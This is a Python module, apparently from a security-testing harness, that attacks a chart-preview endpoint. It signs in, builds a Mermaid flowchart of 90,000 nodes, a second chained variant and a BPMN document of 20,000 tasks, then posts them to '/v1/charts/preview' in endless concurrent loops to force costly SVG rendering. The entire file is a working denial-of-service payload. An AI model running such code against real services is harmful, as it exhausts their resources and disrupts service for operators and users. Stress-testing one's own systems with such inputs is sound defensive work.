"""Charts of far more nodes than one may have, in a body as large as bodies may be. An editor sends them."""

import asyncio
import itertools

NUMBER, TITLE, ADDRESSES = 12, "charts", 2
LINES, NODES, TASKS = 2, 90_000, 20_000
PREVIEW = "/v1/charts/preview"


async def attack(attacker):
    token, charts = await attacker.signed_in(), list(written())
    await asyncio.gather(*(loop(attacker, token, charts, number) for number in range(LINES)))


async def loop(attacker, token, charts, number):
    line = attacker.line()
    for media, chart in itertools.islice(itertools.cycle(charts), number, None):
        await line.ask(PREVIEW, token | {"Content-Type": media, "Accept": "image/svg+xml"}, "POST", chart)


def written():
    """One chain on one line, one on many, and one in the other notation."""
    names = [f"n{number}" for number in range(NODES)]
    yield "text/vnd.mermaid", ("flowchart TD\n" + "-->".join(names)).encode()
    yield "text/vnd.mermaid", ("flowchart TD\n" + "\n".join(map("-->".join, zip(names[::2], names[1::2])))).encode()
    tasks = "".join(f'<task id="t{number}" name="审核"/>' for number in range(TASKS))
    process = f'<process id="p">{tasks}</process>'
    definitions = f'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" targetNamespace="urn:x">{process}</definitions>'
    yield "application/bpmn+xml", definitions.encode()
